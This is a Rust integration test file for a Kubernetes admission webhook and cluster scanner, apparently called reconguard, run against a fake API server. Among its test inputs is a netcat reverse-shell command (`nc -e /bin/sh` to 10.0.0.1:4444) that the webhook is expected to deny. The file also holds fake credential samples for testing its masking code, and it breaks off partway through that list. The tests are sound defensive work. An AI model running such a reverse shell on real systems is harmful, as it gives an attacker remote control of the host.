//! The cluster side against a fake API server on loopback (`common::fake_api`): the pod cache
//! (list, watch, bookmarks, 410 Gone and relist, selected namespaces), requests judged with their
//! target's context over TLS, Events, the quarantine label, unexpected pod creation, `scan` with
//! PolicyReports, and an API server that cannot be reached.

use crate::common;

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use common::fake_api::{pod, FakeApi};
use common::server::*;
use reconguard::cluster::pods::{CacheObserver, PodCache};
use serde_json::{json, Value};

#[derive(Default)]
struct Counting {
    errors: AtomicUsize,
}

impl CacheObserver for Counting {
    fn changed(&self, _: &PodCache) {}
    fn error(&self, _: &kube::runtime::watcher::Error) {
        self.errors.fetch_add(1, Ordering::SeqCst);
    }
}

fn exporter_spec() -> Value {
    json!({
        "hostPID": true,
        "containers": [{"name": "node-exporter", "image": "quay.io/prometheus/node-exporter:v1.8.2",
                        "volumeMounts": [{"name": "root", "mountPath": "/host/root"}]}],
        "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
    })
}

fn plain_spec(sa: &str) -> Value {
    json!({"serviceAccountName": sa, "containers": [{"name": "app", "image": "registry.example/web:1.0"}]})
}

/// The cluster most tests start from: a monitoring DaemonSet pod that reaches the node, three
/// Deployment pods in `shop`, and a finished Job pod.
fn seed(api: &FakeApi) {
    api.put_pod(pod(
        "mon",
        "exporter-x1",
        exporter_spec(),
        Some(("DaemonSet", "exporter")),
    ));
    for i in 0..3 {
        api.put_pod(pod(
            "shop",
            &format!("web-{i}"),
            plain_spec("web"),
            Some(("ReplicaSet", "web-7d9f8")),
        ));
    }
    let mut done = pod(
        "shop",
        "migrate-1",
        plain_spec("default"),
        Some(("Job", "migrate")),
    );
    done["status"]["phase"] = json!("Succeeded");
    api.put_pod(done);
}

/// A pod cache of `namespaces` (empty: all) kept by a watch of the fake API server.
async fn watch_pods(api: &FakeApi, namespaces: Vec<String>) -> (Arc<PodCache>, Arc<Counting>) {
    let dir = tempfile::tempdir().unwrap();
    let client = reconguard::cluster::client(Some(&api.kubeconfig(dir.path())))
        .await
        .unwrap();
    let cache = Arc::new(PodCache::new(namespaces));
    let observer = Arc::new(Counting::default());
    tokio::spawn(reconguard::cluster::pods::run(
        client,
        cache.clone(),
        observer.clone(),
    ));
    (cache, observer)
}

#[tokio::test]
async fn the_cache_lists_watches_and_relists_after_410_gone() {
    let api = FakeApi::start().await;
    seed(&api);
    let (cache, observer) = watch_pods(&api, vec![]).await;
    eventually("the first list", || async { cache.synced() }).await;
    // Finished pods are left out by the field selector.
    assert_eq!(cache.len(), 4);
    assert!(cache.get("shop", "migrate-1").is_none());
    let exporter = cache.get("mon", "exporter-x1").expect("cached");
    assert!(exporter.host_pid);
    assert_eq!(exporter.host_paths, [("root".to_string(), "/".to_string())]);
    assert_eq!(exporter.controller.as_deref(), Some("DaemonSet/exporter"));
    let list = api.requests();
    let first = list.iter().find(|r| r.path == "/api/v1/pods").unwrap();
    assert!(
        first.query.contains("fieldSelector=status.phase"),
        "{}",
        first.query
    );

    // Watch events: added, modified into a finished phase (out of the selection), deleted.
    api.put_pod(pod("shop", "debug", plain_spec("default"), None));
    eventually("an added pod", || async {
        cache.get("shop", "debug").is_some()
    })
    .await;
    let mut finished = pod(
        "shop",
        "web-2",
        plain_spec("web"),
        Some(("ReplicaSet", "web-7d9f8")),
    );
    finished["status"]["phase"] = json!("Failed");
    api.put_pod(finished);
    eventually("a pod that finished", || async {
        cache.get("shop", "web-2").is_none()
    })
    .await;
    api.delete("api/v1", "pods", "shop", "debug", false);
    eventually("a deleted pod", || async {
        cache.get("shop", "debug").is_none()
    })
    .await;
    let watches = api.count("GET", "/api/v1/pods", "watch=true");
    assert!(watches >= 1);
    assert!(
        api.count("GET", "/api/v1/pods", "allowWatchBookmarks=true") >= 1,
        "bookmarks asked for"
    );

    // History compacted while a pod went away unseen: the watch gets 410 and the cache relists.
    let lists_before = api.count("GET", "/api/v1/pods", "limit=");
    api.delete("api/v1", "pods", "shop", "web-0", true);
    api.compact();
    api.put_pod(pod("shop", "late", plain_spec("default"), None));
    eventually("a relist after 410 Gone", || async {
        cache.get("shop", "web-0").is_none() && cache.get("shop", "late").is_some()
    })
    .await;
    assert!(api.count("GET", "/api/v1/pods", "limit=") > lists_before);
    assert!(
        observer.errors.load(Ordering::SeqCst) >= 1,
        "the 410 reported"
    );
    assert_eq!(cache.len(), 3);
}

#[tokio::test]
async fn a_cache_of_selected_namespaces_speaks_only_for_them() {
    let api = FakeApi::start().await;
    seed(&api);
    let (cache, _) = watch_pods(&api, vec!["shop".into()]).await;
    eventually("the list", || async { cache.synced() }).await;
    assert!(cache.get("mon", "exporter-x1").is_none());
    assert_eq!(
        cache.namespace("shop").map(|n| (n.pods, n.managed)),
        Some((3, 3))
    );
    assert_eq!(cache.namespace("mon"), None, "not watched: no summary");
    assert_eq!(
        api.count("GET", "/api/v1/pods", ""),
        0,
        "no cluster-wide list"
    );
    assert!(api.count("GET", "/api/v1/namespaces/shop/pods", "") >= 1);
}

fn exec_review(uid: &str, ns: &str, pod: &str, argv: &[&str], dry_run: bool) -> Value {
    let user = common::user_info("mallory@example.com", None);
    common::exec_review(uid, ns, pod, user, argv, dry_run)
}

fn create_review(uid: &str, ns: &str, name: &str, user: &str, extra: Option<&str>) -> Value {
    let user_info = common::user_info(user, extra);
    json!({
        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {
            "uid": uid,
            "kind": {"group": "", "version": "v1", "kind": "Pod"},
            "resource": {"group": "", "version": "v1", "resource": "pods"},
            "name": name, "namespace": ns, "operation": "CREATE", "userInfo": user_info,
            "object": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns},
                       "spec": plain_spec("default")},
            "dryRun": false,
        }
    })
}

fn rules_of(answer: &Value) -> String {
    answer["response"]["auditAnnotations"]["rules"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

#[tokio::test]
async fn requests_are_judged_with_their_target_and_reported_to_the_cluster() {
    let api = FakeApi::start().await;
    seed(&api);
    let kube_dir = tempfile::tempdir().unwrap();
    let kubeconfig = api.kubeconfig(kube_dir.path());
    let server = Server::start(|c, _| {
        c.cluster.pod_cache = true;
        c.cluster.kubeconfig = Some(kubeconfig);
        c.cluster.events = true;
        c.cluster.event_settings = reconguard::cluster::events::EventSettings {
            dedupe: Duration::from_secs(300),
            per_second: 50.0,
            burst: 50,
            instance: Some("reconguard-test".into()),
        };
        c.cluster.quarantine_min_score = Some(70);
    })
    .await;
    server
        .wait_for_metric("the pod cache synced", "reconguard_pod_cache_synced", &[])
        .await;
    let client = h2_client(&server.ca_pem);
    let url = server.url("/validate");

    // The same `ps aux`: annotated in a plain pod, denied in a hostPID pod with the host root.
    let (_, _, plain) = post(
        &client,
        &url,
        &exec_review("u1", "shop", "web-1", &["ps", "aux"], false),
    )
    .await;
    assert_eq!(plain["response"]["allowed"], true, "{plain}");
    assert!(!rules_of(&plain).contains("exec-escape-adjacent-target"));
    let (_, _, node) = post(
        &client,
        &url,
        &exec_review("u2", "mon", "exporter-x1", &["ps", "aux"], false),
    )
    .await;
    assert_eq!(node["response"]["allowed"], false, "{node}");
    let message = node["response"]["status"]["message"].as_str().unwrap_or("");
    assert!(
        rules_of(&node).contains("exec-escape-adjacent-target"),
        "{node}"
    );
    assert!(
        message.contains("host-pid") && message.contains("hostpath-host-root"),
        "{message}"
    );

    // A pod the cache does not know: judged by the argv alone, never an error.
    let (status, _, unknown) = post(
        &client,
        &url,
        &exec_review("u3", "mon", "gone", &["ps", "aux"], false),
    )
    .await;
    assert!(status.is_success());
    assert_eq!(unknown["response"]["allowed"], true, "{unknown}");

    // An Event on the target pod, and the quarantine label on that very pod.
    eventually("an Event for the denial", || async {
        api.all("apis/events.k8s.io/v1", "events")
            .iter()
            .any(|e| e["regarding"]["name"] == "exporter-x1" && e["reason"] == "Denied")
    })
    .await;
    let event = api
        .all("apis/events.k8s.io/v1", "events")
        .into_iter()
        .find(|e| e["regarding"]["name"] == "exporter-x1")
        .unwrap();
    assert_eq!(event["metadata"]["namespace"], "mon");
    assert_eq!(event["regarding"]["uid"], "uid-mon-exporter-x1");
    assert_eq!(event["type"], "Warning");
    assert!(
        event["note"]
            .as_str()
            .unwrap()
            .contains("mallory@example.com"),
        "{event}"
    );
    eventually("the quarantine label", || async {
        api.get("api/v1", "pods", "mon", "exporter-x1")
            .is_some_and(|p| {
                p["metadata"]["labels"]["reconguard.io/quarantine"] == "exec-escape-adjacent-target"
            })
    })
    .await;
    let patch = api
        .requests()
        .into_iter()
        .find(|r| r.method == "PATCH" && r.path.ends_with("/pods/exporter-x1"))
        .unwrap();
    assert_eq!(
        patch.body["metadata"]["uid"], "uid-mon-exporter-x1",
        "uid precondition"
    );

    // The same denial again: deduplicated, not a second Event.
    post(
        &client,
        &url,
        &exec_review("u4", "mon", "exporter-x1", &["ps", "aux"], false),
    )
    .await;
    server
        .wait_for_metric(
            "a deduplicated event",
            "reconguard_events_total",
            &[("outcome", "deduplicated")],
        )
        .await;
    // A dry run denies the same way and leaves nothing behind; a later real denial elsewhere
    // shows the queue moved past it.
    let (_, _, dry) = post(
        &client,
        &url,
        &exec_review(
            "u5",
            "shop",
            "web-1",
            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            true,
        ),
    )
    .await;
    assert_eq!(dry["response"]["allowed"], false, "{dry}");
    post(
        &client,
        &url,
        &exec_review(
            "u6",
            "shop",
            "web-0",
            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            false,
        ),
    )
    .await;
    eventually("the real denial's label", || async {
        api.get("api/v1", "pods", "shop", "web-0")
            .is_some_and(|p| !p["metadata"]["labels"]["reconguard.io/quarantine"].is_null())
    })
    .await;
    let web1 = api.get("api/v1", "pods", "shop", "web-1").unwrap();
    assert!(
        web1["metadata"]["labels"]["reconguard.io/quarantine"].is_null(),
        "dry run labelled"
    );
    let events = api.all("apis/events.k8s.io/v1", "events");
    assert!(
        !events.iter().any(|e| e["regarding"]["name"] == "web-1"),
        "dry run reported"
    );
    assert_eq!(
        events
            .iter()
            .filter(|e| e["regarding"]["name"] == "exporter-x1")
            .count(),
        1
    );

    // A person's bare pod where every pod has a controller; and a pod made with a workload's token.
    let (_, _, bare) = post(
        &client,
        &url,
        &create_review("u7", "shop", "tmp", "alice@example.com", None),
    )
    .await;
    assert!(
        rules_of(&bare).contains("pod-unexpected-creation"),
        "{bare}"
    );
    let warnings = bare["response"]["warnings"].to_string();
    assert!(
        warnings.contains("alice@example.com")
            && warnings.contains("ReplicaSet via kube-controller-manager"),
        "{warnings}"
    );
    let (_, _, stolen) = post(
        &client,
        &url,
        &create_review(
            "u8",
            "shop",
            "miner",
            "system:serviceaccount:shop:web",
            Some("web-1"),
        ),
    )
    .await;
    assert!(
        rules_of(&stolen).contains("pod-unexpected-creation"),
        "{stolen}"
    );
    assert!(
        stolen["response"]["warnings"].to_string().contains(
            "held by running ReplicaSet/web-7d9f8 (usually: ReplicaSet via kube-controller-manager)"
        ),
        "{stolen}"
    );
    // In a namespace the cache knows nothing of, there is no usual to compare with.
    let (_, _, elsewhere) = post(
        &client,
        &url,
        &create_review("u9", "empty", "tmp", "alice@example.com", None),
    )
    .await;
    assert!(
        !rules_of(&elsewhere).contains("pod-unexpected-creation"),
        "{elsewhere}"
    );

    let metrics = server.metrics_text().await;
    assert_promtool_accepts(&metrics);
    assert!(metric(&metrics, "reconguard_pod_cache_pods", &[]) >= 4.0);
    assert!(
        metric(
            &metrics,
            "reconguard_quarantines_total",
            &[("outcome", "labelled")]
        ) >= 2.0
    );
    server.stop().await.unwrap();
}

#[tokio::test]
async fn an_unreachable_api_server_leaves_requests_judged_alone() {
    // A port nothing listens on.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    std::fs::write(
        &kubeconfig,
        format!("apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: http://127.0.0.1:{port}\nusers:\n- name: u\n  user: {{}}\ncontexts:\n- name: c\n  context:\n    cluster: c\n    user: u\ncurrent-context: c\n"),
    )
    .unwrap();
    let server = Server::start(|c, _| {
        c.cluster.pod_cache = true;
        c.cluster.kubeconfig = Some(kubeconfig);
    })
    .await;
    let client = h2_client(&server.ca_pem);
    let (status, _, answer) = post(
        &client,
        &server.url("/validate"),
        &exec_review("u1", "mon", "exporter-x1", &["ps", "aux"], false),
    )
    .await;
    assert!(status.is_success());
    assert_eq!(answer["response"]["allowed"], true, "{answer}");
    server
        .wait_for_metric(
            "watch errors",
            "reconguard_pod_cache_watch_errors_total",
            &[],
        )
        .await;
    assert_eq!(
        metric(
            &server.metrics_text().await,
            "reconguard_pod_cache_synced",
            &[]
        ),
        0.0
    );
    server.stop().await.unwrap();
}

#[tokio::test]
async fn scan_judges_what_runs_and_writes_policy_reports() {
    let api = FakeApi::start().await;
    seed(&api);
    // More pods than one page (500) of a list.
    for i in 0..1200 {
        api.put_pod(pod(
            "bulk",
            &format!("p-{i:04}"),
            plain_spec("default"),
            Some(("ReplicaSet", "bulk-1")),
        ));
    }
    put_workload(
        &api,
        ("deployments", "Deployment"),
        ("shop", "agent"),
        json!({"hostPID": true, "containers": [{"name": "a", "image": "registry.example/agent:1.0", "securityContext": {"privileged": true}}]}),
    );
    api.put_pod(pod("shop", "debug", plain_spec("default"), None));
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = api.kubeconfig(dir.path());
    let output = scan_cli(&kubeconfig, "json").await;
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "something denied: {stderr}");
    let lines: Vec<Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let find = |kind: &str, name: &str| {
        lines
            .iter()
            .find(|l| l["kind"] == kind && l["name"] == name)
            .unwrap_or_else(|| panic!("{kind}/{name} not in {stdout}"))
    };
    assert_eq!(find("Deployment", "agent")["decision"], "deny");
    assert_eq!(find("Pod", "debug")["decision"], "allow");
    // Pods of a ReplicaSet are judged through their template, not one by one.
    assert!(!lines
        .iter()
        .any(|l| l["name"] == "web-0" || l["name"] == "p-0000"));
    // A DaemonSet's pod is left to its DaemonSet's template too.
    assert!(!lines.iter().any(|l| l["name"] == "exporter-x1"));
    assert!(
        api.count("GET", "/api/v1/pods", "continue=") >= 2,
        "paged through 1,200 pods"
    );

    let reports = api.all("apis/wgpolicyk8s.io/v1alpha2", "policyreports");
    let shop = reports
        .iter()
        .find(|r| r["metadata"]["namespace"] == "shop")
        .expect("a report for shop");
    assert_eq!(shop["metadata"]["name"], "reconguard");
    let results = shop["results"].as_array().unwrap();
    let failed: Vec<&Value> = results.iter().filter(|r| r["result"] == "fail").collect();
    assert!(failed.iter().any(|r| r["rule"] == "privileged"
        && r["resources"][0]["name"] == "agent"
        && r["severity"].is_string()));
    assert!(results
        .iter()
        .any(|r| r["result"] == "pass" && r["resources"][0]["name"] == "debug"));
    assert_eq!(
        shop["summary"]["fail"].as_u64().unwrap() as usize,
        failed.len()
    );
    let apply = api
        .requests()
        .into_iter()
        .find(|r| r.method == "PATCH" && r.path.contains("policyreports"))
        .unwrap();
    assert!(
        apply.content_type.starts_with("application/apply-patch"),
        "server-side apply"
    );
    assert!(apply.query.contains("fieldManager=reconguard") && apply.query.contains("force=true"));
}

/// `scan` with a layer it suggested leaves nothing denied, and every entry names one service
/// account in one namespace with the image repositories it ran.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_layer_suggested_by_scan_makes_the_next_scan_deny_nothing() {
    let api = FakeApi::start().await;
    seed(&api);
    put_workload(
        &api,
        ("daemonsets", "DaemonSet"),
        ("calico-system", "cni"),
        json!({"serviceAccountName": "calico-node", "hostNetwork": true, "hostPID": true,
               "containers": [{"name": "node", "image": "docker.io/calico/node:v3.29.0", "securityContext": {"privileged": true}}]}),
    );
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = api.kubeconfig(dir.path());
    let layer = dir.path().join("suggested.yaml");
    let run = |extra: Vec<std::ffi::OsString>| {
        let kubeconfig = kubeconfig.clone();
        tokio::task::spawn_blocking(move || {
            std::process::Command::new(env!("CARGO_BIN_EXE_reconguard"))
                .args(["scan", "--kubeconfig"])
                .arg(&kubeconfig)
                .args(extra)
                .output()
                .unwrap()
        })
    };
    let first = run(vec!["--suggest-layer".into(), layer.clone().into()])
        .await
        .unwrap();
    assert_eq!(
        first.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    let text = std::fs::read_to_string(&layer).unwrap();
    let doc: Value = serde_saphyr::from_str(&text).unwrap();
    let entries = doc["exemptions"]["add"].as_array().unwrap();
    let cni = entries
        .iter()
        .find(|e| e["podServiceAccounts"] == json!(["calico-system/calico-node"]))
        .unwrap_or_else(|| panic!("{text}"));
    assert_eq!(cni["namespaces"], json!(["calico-system"]));
    assert_eq!(cni["images"], json!(["docker.io/calico/node[:@]*"]));
    for e in entries {
        assert!(
            e.get("users").is_none() && e.get("requesterServiceAccounts").is_none(),
            "{e}"
        );
    }
    // `policy diff` shows what the layer changes, on the object it was written for.
    let object = dir.path().join("cni.json");
    std::fs::write(
        &object,
        api.get("apis/apps/v1", "daemonsets", "calico-system", "cni")
            .unwrap()
            .to_string(),
    )
    .unwrap();
    let diff = std::process::Command::new(env!("CARGO_BIN_EXE_reconguard"))
        .args(["policy", "diff", "--to"])
        .arg(&layer)
        .arg(&object)
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&diff.stdout);
    assert_eq!(diff.status.code(), Some(1), "a change: {shown}");
    assert!(
        shown.contains("DaemonSet calico-system/cni: deny") && shown.contains("-> allow"),
        "{shown}"
    );
    let second = run(vec!["--policy".into(), layer.into()]).await.unwrap();
    assert_eq!(
        second.status.code(),
        Some(0),
        "nothing denied with the layer: {}",
        String::from_utf8_lossy(&second.stdout)
    );
}

/// Installed as `kubectl-reconguard`, the binary runs under the real kubectl's plugin dispatch
/// (`kubectl reconguard ...`), names itself so in its help, and scans the context it is given,
/// not the kubeconfig's current one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kubectl_runs_it_as_a_plugin_in_the_context_it_names() {
    let tools = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(".tools/bin/kubectl");
    let kubectl = if tools.exists() {
        tools
    } else {
        "kubectl".into()
    };
    let api = FakeApi::start().await;
    seed(&api);
    put_workload(
        &api,
        ("deployments", "Deployment"),
        ("shop", "agent"),
        json!({"hostPID": true, "containers": [{"name": "a", "image": "registry.example/agent:1.0", "securityContext": {"privileged": true}}]}),
    );
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    std::fs::copy(
        env!("CARGO_BIN_EXE_reconguard"),
        bin.join("kubectl-reconguard"),
    )
    .unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    std::fs::write(
        &kubeconfig,
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- name: fake\n  cluster:\n    server: http://{}\n\
             - name: down\n  cluster:\n    server: http://127.0.0.1:1\nusers:\n- name: fake\n  user:\n    \
             token: fake-token\ncontexts:\n- name: fake\n  context:\n    cluster: fake\n    user: fake\n\
             - name: down\n  context:\n    cluster: down\n    user: fake\ncurrent-context: down\n",
            api.addr
        ),
    )
    .unwrap();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let run = |args: Vec<String>| {
        let (kubectl, path) = (kubectl.clone(), path.clone());
        tokio::task::spawn_blocking(move || {
            std::process::Command::new(&kubectl)
                .arg("reconguard")
                .args(args)
                .env("PATH", path)
                .output()
                .unwrap_or_else(|e| {
                    panic!(
                        "{}: {e} (scripts/tools.sh installs kubectl)",
                        kubectl.display()
                    )
                })
        })
    };
    let help = run(vec!["--help".into()]).await.unwrap();
    assert!(
        String::from_utf8_lossy(&help.stdout).contains("Usage: kubectl reconguard"),
        "{help:?}"
    );
    let k = kubeconfig.display().to_string();
    let current = run(vec!["scan".into(), "--kubeconfig".into(), k.clone()])
        .await
        .unwrap();
    assert_eq!(
        current.status.code(),
        Some(2),
        "the current context is down: {current:?}"
    );
    let named = run(vec![
        "scan".into(),
        "--kubeconfig".into(),
        k,
        "--context".into(),
        "fake".into(),
    ])
    .await
    .unwrap();
    assert_eq!(
        named.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&named.stderr)
    );
    assert!(String::from_utf8_lossy(&named.stdout).contains("Deployment shop/agent -> deny"));
}

/// An apps/v1 workload (`resource`, `kind`) named `ns/name` whose pods run `spec`.
fn put_workload(
    api: &FakeApi,
    (resource, kind): (&str, &str),
    (ns, name): (&str, &str),
    spec: Value,
) {
    api.put(
        "apis/apps/v1",
        resource,
        json!({"apiVersion": "apps/v1", "kind": kind,
               "metadata": {"name": name, "namespace": ns},
               "spec": {"selector": {"matchLabels": {"a": "b"}},
                        "template": {"metadata": {"labels": {"a": "b"}}, "spec": spec}}}),
    );
}

/// `reconguard scan --policy-reports --format FORMAT` against the fake API server.
async fn scan_cli(kubeconfig: &std::path::Path, format: &str) -> std::process::Output {
    let (kubeconfig, format) = (kubeconfig.to_path_buf(), format.to_string());
    tokio::task::spawn_blocking(move || {
        std::process::Command::new(env!("CARGO_BIN_EXE_reconguard"))
            .args([
                "scan",
                "--policy-reports",
                "--format",
                &format,
                "--kubeconfig",
            ])
            .arg(&kubeconfig)
            .output()
            .unwrap()
    })
    .await
    .unwrap()
}

/// A pod as a busy cluster holds it: labels, annotations, two managedFields entries, two
/// containers with env, resources, probes and mounts, and a status. About 4.6 KB of JSON.
fn realistic_pod(ns: &str, i: usize) -> Value {
    let container = |name: &str| {
        json!({"name": name, "image": format!("registry.example/team/{name}:1.4.{i}"),
               "env": (0..6).map(|e| json!({"name": format!("SETTING_{e}"), "value": "some-value-of-moderate-length"})).collect::<Vec<_>>(),
               "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}},
               "readinessProbe": {"httpGet": {"path": "/ready", "port": 8080}, "periodSeconds": 5},
               "livenessProbe": {"httpGet": {"path": "/health", "port": 8080}},
               "volumeMounts": [{"name": "config", "mountPath": "/etc/app"}, {"name": "kube-api-access", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "readOnly": true}],
               "securityContext": {"runAsNonRoot": true, "allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}})
    };
    let mut p = pod(
        ns,
        &format!("web-{i:05}-7d9f8c6b5d-x{i:04}"),
        json!({"serviceAccountName": "web", "nodeName": format!("node-{}", i % 50),
               "containers": [container("app"), container("sidecar")],
               "volumes": [{"name": "config", "configMap": {"name": "web-config"}},
                           {"name": "kube-api-access", "projected": {"sources": [{"serviceAccountToken": {"path": "token", "expirationSeconds": 3607}}]}}]}),
        Some(("ReplicaSet", "web-7d9f8c6b5d")),
    );
    p["metadata"]["labels"] = json!({"app": "web", "pod-template-hash": "7d9f8c6b5d", "team": "shop", "tier": "frontend", "version": "1.4"});
    p["metadata"]["annotations"] = json!({"kubectl.kubernetes.io/restartedAt": "2026-11-29T10:00:00Z", "prometheus.io/scrape": "true"});
    p["metadata"]["managedFields"] = json!([
        {"manager": "kube-controller-manager", "operation": "Update", "apiVersion": "v1", "fieldsType": "FieldsV1",
         "fieldsV1": {"f:metadata": {"f:labels": {".": {}, "f:app": {}, "f:pod-template-hash": {}}, "f:ownerReferences": {}}, "f:spec": {"f:containers": {"k:{\"name\":\"app\"}": {".": {}, "f:image": {}, "f:env": {}}}}}},
        {"manager": "kubelet", "operation": "Update", "apiVersion": "v1", "fieldsType": "FieldsV1", "subresource": "status",
         "fieldsV1": {"f:status": {"f:conditions": {}, "f:containerStatuses": {}, "f:hostIP": {}, "f:podIP": {}, "f:startTime": {}}}},
    ]);
    let conditions: Vec<Value> = ["Initialized", "Ready", "ContainersReady", "PodScheduled"]
        .iter()
        .map(|t| json!({"type": t, "status": "True", "lastTransitionTime": "2026-11-29T10:00:00Z"}))
        .collect();
    let statuses: Vec<Value> = ["app", "sidecar"]
        .iter()
        .map(|n| {
            json!({"name": n, "ready": true, "restartCount": 0, "image": "registry.example/team/app:1.4",
                   "imageID": "registry.example/team/app@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                   "containerID": "containerd://0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                   "started": true, "state": {"running": {"startedAt": "2026-11-29T10:00:00Z"}}})
        })
        .collect();
    p["status"] = json!({"phase": "Running", "hostIP": "10.0.0.1",
        "podIP": format!("10.1.{}.{}", i / 250, i % 250),
        "conditions": conditions, "containerStatuses": statuses});
    p
}

/// 10,000 pods in 20 namespaces, listed in pages of 500: every pod is held, in projections of
/// a few hundred bytes whatever the pod's size.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_pods_are_held_in_small_projections() {
    let api = FakeApi::start().await;
    for i in 0..10_000 {
        api.put_pod(realistic_pod(&format!("team-{}", i % 20), i));
    }
    let pod_bytes = serde_json::to_vec(&realistic_pod("team-0", 1))
        .unwrap()
        .len();
    let (cache, _) = watch_pods(&api, vec![]).await;
    // Longer than `eventually`'s 15 s: a debug build under a loaded CI machine.
    let deadline = std::time::Instant::now() + Duration::from_secs(120);
    while !cache.synced() && std::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(cache.len(), 10_000);
    assert!(
        api.count("GET", "/api/v1/pods", "continue=") >= 19,
        "listed in pages"
    );
    let per_pod = cache.footprint() / 10_000;
    eprintln!("pod JSON {pod_bytes} bytes, projection {per_pod} bytes");
    assert!(pod_bytes > 4000, "{pod_bytes}");
    assert!(per_pod < 400, "{per_pod} bytes a pod");
    assert_eq!(cache.namespace("team-3").map(|n| n.pods), Some(500));
}

/// The resident memory of `serve --pod-cache` over 10,000 such pods against none: run with
/// `cargo test --release --test it -- --ignored --nocapture cluster::pod_cache_memory`.
#[tokio::test]
#[ignore = "a measurement for the README, run on demand in release"]
async fn pod_cache_memory() {
    /// Kills the server however the test ends.
    struct Child(std::process::Child);
    impl Drop for Child {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let _ = rustls::crypto::ring::default_provider().install_default();
    async fn rss_of_serve(pods: usize, cache: bool) -> (f64, f64) {
        let api = FakeApi::start().await;
        for i in 0..pods {
            api.put_pod(realistic_pod(&format!("team-{}", i % 20), i));
        }
        let dir = tempfile::tempdir().unwrap();
        let kubeconfig = api.kubeconfig(dir.path());
        let free = || {
            std::net::TcpListener::bind("127.0.0.1:0")
                .unwrap()
                .local_addr()
                .unwrap()
        };
        let (listen, metrics) = (free(), free());
        let child = std::process::Command::new(env!("CARGO_BIN_EXE_reconguard"))
            .args(["serve", "--listen", &listen.to_string()])
            .args(cache.then_some("--pod-cache"))
            .args(["--metrics-listen", &metrics.to_string(), "--kubeconfig"])
            .arg(&kubeconfig)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let child = Child(child);
        let url = format!("http://{metrics}/metrics");
        eventually("synced", || async {
            match reqwest::get(&url).await {
                Ok(r) => {
                    let text = r.text().await.unwrap_or_default();
                    !cache || metric(&text, "reconguard_pod_cache_synced", &[]) >= 1.0
                }
                Err(_) => false,
            }
        })
        .await;
        tokio::time::sleep(Duration::from_secs(2)).await;
        let text = reqwest::get(&url).await.unwrap().text().await.unwrap();
        let status = std::fs::read_to_string(format!("/proc/{}/status", child.0.id())).unwrap();
        let rss_kib: f64 = status
            .lines()
            .find(|l| l.starts_with("VmRSS:"))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|v| v.parse().ok())
            .unwrap();
        drop(child);
        (
            rss_kib / 1024.0,
            metric(&text, "reconguard_pod_cache_bytes", &[]) / 1_048_576.0,
        )
    }
    let (plain, _) = rss_of_serve(0, false).await;
    let (empty, _) = rss_of_serve(0, true).await;
    let (full, projections) = rss_of_serve(10_000, true).await;
    eprintln!(
        "RSS: serve {plain:.1} MiB; serve --pod-cache {empty:.1} MiB with no pods, {full:.1} MiB \
         with 10,000 pods ({:.1} MiB more; projections {projections:.1} MiB)",
        full - empty
    );
    assert!(full > empty);
}

/// One credential per form the masking knows (`reconguard::mask::forms`), as it would sit in a
/// command line, with a part of it that must never come back out.
fn credentials() -> Vec<(&'static str, Vec<&'static str>, &'static str)> {
    vec![
        (
            "authorization-scheme",
            vec!["Authorization: Bearer abcDEF1234567890xyz"],
            "abcDEF1234567890",
        ),
        (
            "secret-header",
            vec!["X-Vault-Token: hvs.CAESIJx9abcdef"],
            "hvs.CAESIJx9",
        ),
        ("secret-variable", vec!["PGPASSWORD=s3cr3tPassw0rd"], "s3cr3tPassw0rd"),
        ("secret-option", vec!["--password=hunter22hunter"], "hunter22hunter"),
        (
            "url-password",
            vec!["https://bob:Sup3rSecretPw@git.example/x"],
            "Sup3rSecretPw",
        ),
        (
            "pem-private-key",
            vec!["-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7xQz\n-----END RSA PRIVATE KEY-----"],
            "MIIEowIBAAKCAQEA7xQz",
        ),
        (
            "jwt",
            vec!["eyJhbGciOiJSUzI1NiIs.eyJpc3MiOiJrdWJlcm5ldGVz.c2lnbmF0dXJl"],
            "eyJpc3MiOiJrdWJlcm5ldGVz",
        ),
